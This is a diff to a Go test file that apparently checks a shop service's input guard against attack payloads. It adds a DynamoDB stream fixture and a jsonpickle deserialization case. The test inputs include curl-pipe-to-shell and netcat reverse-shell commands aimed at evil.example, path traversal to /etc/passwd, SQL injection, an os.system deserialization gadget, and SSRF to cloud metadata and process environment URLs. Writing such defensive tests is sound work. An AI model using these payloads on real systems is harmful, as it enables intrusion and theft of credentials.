@@ -123,6 +123,13 @@ var (
 			"body":           text(object{"feed": v}), "isBase64Encoded": false,
 		}
 	}}
+	stored = shopEvent{"Indexer", func(v string) any {
+		return object{"Records": []any{object{
+			"eventID": "1", "eventName": "INSERT", "eventVersion": "1.1", "eventSource": "aws:dynamodb", "awsRegion": "eu-west-1",
+			"eventSourceARN": "arn:aws:dynamodb:eu-west-1:1:table/orders/stream/2026-11-29T10:00:00.000",
+			"dynamodb":       object{"Keys": object{"id": object{"S": "1"}}, "NewImage": object{"id": object{"S": "1"}, "options": object{"S": v}}, "SequenceNumber": "1", "StreamViewType": "NEW_IMAGE"},
+		}}}
+	}}
 	note = shopEvent{"OrderWorker", func(v string) any {
 		return message(object{"orderId": "42", "customer": "Anna", "note": v})
 	}}
@@ -164,6 +171,7 @@ func TestGuardShopAttacks(t *testing.T) {
 		{upload, "command", []string{"x$(id).jpg", "a;curl+evil.example|sh;.png", "%60id%60.jpg"}},
 		{upload, "path", []string{"../../../../etc/passwd", "..%2F..%2Ftmp%2Fx"}},
 		{sorting, "sql", []string{"price; DROP TABLE products", "(SELECT card FROM payments LIMIT 1)"}},
+		{stored, "deserialization", []string{`{"py/object": "app.Shop", "x": 1}`, `{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}`}},
 		{note, "command", []string{"$(curl evil.example | sh)", "`id`", "x; nc evil.example 1 -e /bin/sh"}},
 		{orderID, "command", []string{"x; id", "$(id)"}},
 		{feed, "ssrf", []string{"http://169.254.169.254/latest/meta-data/", "file:///proc/self/environ", "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next"}},
